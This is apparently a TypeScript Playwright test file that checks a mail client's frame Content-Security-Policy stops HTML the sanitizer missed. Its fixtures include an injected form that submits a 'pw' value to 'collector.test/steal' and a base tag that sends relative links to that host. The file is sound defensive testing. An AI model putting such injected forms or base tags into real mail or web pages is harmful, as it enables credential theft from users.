import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mailDocument } from '../../src-renderer/components/HtmlBody/mail-document';
import { launchBrowser } from './web-app';

// Runs in the page: its globals, typed as far as used (tests type-check without the DOM library).
declare const document: {
  addEventListener(type: 'securitypolicyviolation', listener: (event: { effectiveDirective: string }) => void): void;
  getElementById(id: string): { href: string } | null;
};

/**
 * The frame's own CSP is the second line behind the sanitizer: these tests put
 * what the sanitizer would remove (a form, a base tag) straight into the frame's
 * document and check that Chromium still refuses it.
 */
describe('mail frame CSP in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  async function openMailDocument(body: string): Promise<{ page: Page; collected: string[] }> {
    const page = await browser.newPage();
    const collected: string[] = [];
    await page.route('http://collector.test/**', async (route) => {
      collected.push(route.request().url());
      await route.fulfill({ status: 200, contentType: 'text/html', body: 'got it' });
    });
    await page.route('http://mail.test/', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: mailDocument(body, true) }));
    await page.goto('http://mail.test/');
    return { page, collected };
  }

  it('does not submit a form that slipped past the sanitizer', async () => {
    const { page, collected } = await openMailDocument(
      '<form action="http://collector.test/steal" method="get" target="_self"><input name="pw" value="secret"><button id="go">Go</button></form>',
    );
    const violation = page
      .evaluate(() => new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))))
      .catch(() => 'navigated away');
    // noWaitAfter: Playwright would otherwise wait for the navigation the click schedules, which the CSP cancels.
    await page.click('#go', { noWaitAfter: true });
    expect(await violation).toBe('form-action');
    expect(collected).toEqual([]);
    expect(page.url()).toBe('http://mail.test/');
    await page.close();
  });

  it('ignores a base tag that would send relative links elsewhere', async () => {
    const { page } = await openMailDocument('<base href="http://collector.test/"><a id="link" href="next">next</a>');
    const href = await page.getAttribute('#link', 'href');
    const resolved = await page.evaluate(() => document.getElementById('link')?.href);
    expect(href).toBe('next');
    expect(resolved).not.toContain('collector.test');
    await page.close();
  });
});
